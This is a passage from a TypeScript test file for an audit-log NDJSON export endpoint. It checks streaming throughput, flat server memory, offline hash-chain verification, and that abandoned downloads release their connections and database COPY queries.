          .get(`${baseUrl}/export/audit.ndjson`, { headers: auditor }, (response) => {
            if (response.statusCode !== 200) {
              response.resume();
              reject(new Error(`export answered ${response.statusCode}`));
              return;
            }
            pipeline(response, countLines, fs.createWriteStream(file)).then(resolve, reject);
          })
          .on('error', reject);
      });
    } finally {
      sampling = false;
      await sampler;
      api.server.httpServer.off('request', watch);
    }
    peakRss = Math.max(peakRss, await rss());
    return {
      elapsed: Date.now() - started,
      lines,
      bytes,
      growthMb: (peakRss - startRss) / 1024 / 1024,
      startMb: startRss / 1024 / 1024,
      mostCloseListeners,
    };
  }

  it('GET /export/audit.ndjson streams every event with flat server memory (no forced GC), and the file re-verifies offline', async () => {
    // The server alone, in a process of its own as in production: measured in this one, the growth would also
    // count the client's buffers and whatever garbage the test process has not collected yet.
    const server = await startBenchServer('api', { databaseUrl: api.databaseUrl, authSecret: TEST_AUTH_SECRET });
    const file = path.join(tmp, 'bulk.ndjson');
    let measured: Awaited<ReturnType<typeof streamExport>>;
    try {
      measured = await streamExport(file, server.url, async () => (await server.memory()).rss);
    } finally {
      await server.stop();
    }
    console.info(
      `export of ${total} events (${(measured.bytes / 1024 / 1024).toFixed(1)} MB NDJSON): ${measured.elapsed} ms = ${Math.round((total * 1000) / measured.elapsed)} events/s; ` +
        `server RSS ${measured.startMb.toFixed(0)} MB at start, peak growth ${measured.growthMb.toFixed(1)} MB`,
    );
    expect(measured.lines).toBe(total);
    expect(fs.statSync(file).size).toBe(measured.bytes);
    expect(measured.growthMb).toBeLessThan(64);
    fs.rmSync(file);

    // The in-process server, whose response this test can watch, writes the same file.
    const inProcess = await streamExport(file, api.url.replace(/\/graphql$/, ''), async () => process.memoryUsage().rss);
    mostCloseListeners = inProcess.mostCloseListeners;
    expect(inProcess.lines).toBe(total);

    const verifyStarted = Date.now();
    const result = await run(process.execPath, [VERIFIER, file]);
    const [{ hash }] = await q('SELECT hash FROM audit_events ORDER BY sequence DESC LIMIT 1');
    expect(result).toEqual({ code: 0, stdout: `ok: ${total} events, head ${total} ${hash}\n`, stderr: '' });
    console.info(`verify-audit-export.mjs re-verified ${total} events in ${Date.now() - verifyStarted} ms`);
    fs.rmSync(file);
  }, 120_000);

  it('clients that hang up mid-export give their export connections back: 30 abandoned downloads, then everything still answers', async () => {
    /** 'ok' once the export started and was abandoned; 'busy' if the export connections were all still taken. */
    const abandonedDownload = () =>
      new Promise<'ok' | 'busy'>((resolve, reject) => {
        const request = http.get(exportUrl('ndjson'), { headers: auditor }, (response) => {
          if (response.statusCode === 429) {
            response.resume();
            return resolve('busy');
          }
          expect(response.statusCode).toBe(200);
          response.once('data', () => {
            request.destroy();
            resolve('ok');
          });
        });
        request.on('error', (error) => ((error as NodeJS.ErrnoException).code === 'ECONNRESET' ? resolve('ok') : reject(error)));
      });
    for (let i = 0; i < 30; i++) {
      // The previous download's connection is given back as the server sees the hang-up, a moment after it.
      const deadline = Date.now() + 10_000;
      while ((await abandonedDownload()) === 'busy') {
        if (Date.now() > deadline) throw new Error(`download ${i} found every export connection taken for 10 s`);
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    }
    // The abandoned COPYs end on the server too, rather than block on a socket nobody reads. This
    // test's database only: other test files share the cluster, and their exports are COPYs too.
    const copying = () =>
      q(
        `SELECT count(*)::int AS count FROM pg_stat_activity
         WHERE query LIKE 'COPY (SELECT%' AND datname = current_database() AND pid <> pg_backend_pid()`,
      );
    const deadline = Date.now() + 10_000;
    while ((await copying())[0].count > 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
    expect((await copying())[0].count).toBe(0);
    const answers = await Promise.all(Array.from({ length: 25 }, () => api.graphql('{ countries(first: 1) { totalCount } }')));
    expect(answers.every((answer) => answer.status === 200 && !answer.body.errors)).toBe(true);
    const head = await download('ndjson', 'subjectTypes=COMMITMENT');
    expect(head.status).toBe(200);
    expect(ndjsonLines(head.text).length).toBeGreaterThan(0);
  }, 240_000);

  it('the export waits for back-pressure without piling up listeners on the response', () => {
    expect(mostCloseListeners).toBeGreaterThan(0);
    expect(mostCloseListeners).toBeLessThanOrEqual(10);
  });
});
